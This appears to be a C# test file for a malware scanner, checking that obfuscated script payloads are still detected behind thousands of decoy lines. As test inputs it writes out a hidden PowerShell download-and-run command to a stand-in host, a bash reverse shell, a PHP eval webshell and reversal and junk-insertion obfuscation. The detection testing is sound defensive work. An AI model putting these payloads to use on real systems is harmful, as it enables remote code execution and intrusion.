using System.Text;
using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Scripts;

/// <summary>What tells is found however much that tells nothing stands before it.</summary>
public sealed class ManyDecoysTests
{
    [Fact]
    public async Task A_turned_address_is_read_behind_two_thousand_texts_in_base64()
    {
        var decoys = string.Concat(Enumerable.Range(0, 2000).Select(at => $"d[{at}]=\"{Base64($"part {at} of nothing")}\";\n"));

        (await FindingsAsync("a.js", $"var d=[];\n{decoys}var u=turn(\"{Reversed("WScript.Shell")}\"), p=turn(\"{Reversed("powershell -w hidden iex(irm http://192.0.2.1/a)")}\");\n"))
            .Should().Contain("dec.literals");
    }

    [Fact]
    public async Task A_word_that_is_taken_out_is_found_behind_a_hundred_others()
    {
        var decoys = string.Concat(Enumerable.Range(0, 100).Select(at => $"t=t.replace(/decoy{at}x/g,'');// decoy{at}x decoy{at}x decoy{at}x decoy{at}x\n"));

        (await FindingsAsync("a.js", $"function f(t){{\n{decoys}return t.replace(/qzqz/g,'');}}\nnew ActiveXObject(f('WScqzqzript.Sqzqzhell')).Run(f('powqzqzershell -w hidqzqzden iqzqzex(irm http://192.0.2.1/a)'));\n"))
            .Should().Contain("dec.junk");
    }

    [Fact]
    public async Task A_command_is_looked_at_behind_three_hundred_others()
    {
        var decoys = string.Concat(Enumerable.Range(0, 300).Select(at => $"system(\"echo {at}\")\n"));

        (await FindingsAsync("a.rb", $"#!/usr/bin/ruby\n{decoys}system(\"bash -i >& /dev/tcp/192.0.2.1/443 0>&1\")\n")).Should().Contain("sh.revshell");
    }

    [Fact]
    public async Task What_a_visitor_sends_is_followed_through_twenty_names_whatever_their_order()
    {
        var steps = string.Concat(Enumerable.Range(1, 20).Reverse().Select(at => $"$n{at}=$n{at - 1};\n"));

        (await FindingsAsync("a.php", $"<?php\n{steps}$n0=$_POST['c'];\neval($n20);\n")).Should().Contain("php.webshell_eval");
    }

    [Theory]
    [InlineData(9_000, true)]
    [InlineData(40_000, false)] // Windows starts no command line as long as that
    public async Task A_long_command_in_a_macro_document_s_variables_is_found(int blanks, bool isFound)
    {
        var command = $"cmd /c{new string(' ', blanks)}powershell -w hidden -c iex(irm http://192.0.2.1/a)";
        var settings = $"<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars><w:docVar w:name=\"a\" w:val=\"{command}\"/></w:docVars></w:settings>";
        var file = OoxmlBuilder.Word().Part("word/settings.xml", settings).WithMacros(new VbaProjectBuilder().Module("M", "Sub A()\nEnd Sub\n").Build()).Build();

        var outcome = await Scans.OfAsync(file, "a.docm");

        outcome.Findings.Any(one => one.Id == "ooxml.hidden_command").Should().Be(isFound);
    }

    private static async Task<IEnumerable<string>> FindingsAsync(string name, string text)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var outcome = await scans.ScanAsync(Encoding.UTF8.GetBytes(text), name);
        return outcome.Findings.Select(one => one.Id);
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Reversed(string text) => string.Concat(text.Reverse());
}
